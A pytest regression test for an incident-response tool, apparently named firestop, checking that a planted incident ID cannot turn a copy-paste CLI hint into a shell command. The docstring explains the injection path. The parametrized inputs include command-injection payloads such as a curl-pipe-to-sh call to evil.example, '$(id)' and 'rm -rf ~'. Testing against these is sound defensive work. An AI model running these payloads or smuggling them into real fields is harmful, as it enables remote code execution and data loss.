"""attack12: the "second delivery" hint must not turn a planted once-marker into a shell command.

The once-marker (``alerts-claimed/<sha256>.json``, :func:`firestop.azure.alerts_management.claim`) is unsealed: a
principal with Storage Blob Data write on the records store writes ``{"incident_id": "x; curl …|sh"}`` there. The
source check then reads it back into its reason (``already confirmed for incident 'x; curl …|sh'``, bounded to 80
characters, repr'd, but ``;``, ``|``, ``$(`` and spaces survive), and the ``alert.genuine`` card told the responder
to run ``python -m firestop incident show x; curl …|sh``: copy-paste ran the attacker's command.
"""

from __future__ import annotations

import pytest

from firestop.lifecycle.cli_hints import GENUINE_STEP, unconfirmed_hint


def _view(held: str) -> dict:
    reason = (f"this alert was already confirmed for incident {held[:80]!r}: one confirmed incident per source alert "
              "(a replayed or re-routed delivery waits for a responder)")
    return {"pending_approval": {"step": GENUINE_STEP, "why": "alert not confirmed at its source: x",
                                 "reason_code": "already_confirmed"},
            "timeline_so_far": [{"step": "confirm alert at source", "outcome": "not confirmed",
                                 "detail": f"azure-monitor: {reason}"}]}


@pytest.mark.parametrize("planted", ["x; curl -s https://evil.example/p|sh", "x $(id)", "x`id`", "a b && rm -rf ~",
                                     "x\u202e", "inc-1 > /tmp/out"])
def test_a_planted_incident_id_is_no_command(planted):
    hint = unconfirmed_hint(_view(planted))
    assert "this is a second delivery of it" in hint
    assert "incident show" not in hint and planted not in hint, hint
    assert "another incident" in hint


def test_a_real_incident_id_is_still_named():
    hint = unconfirmed_hint(_view("inc-20261205-abc123"))
    assert "python -m firestop incident show inc-20261205-abc123)" in hint, hint
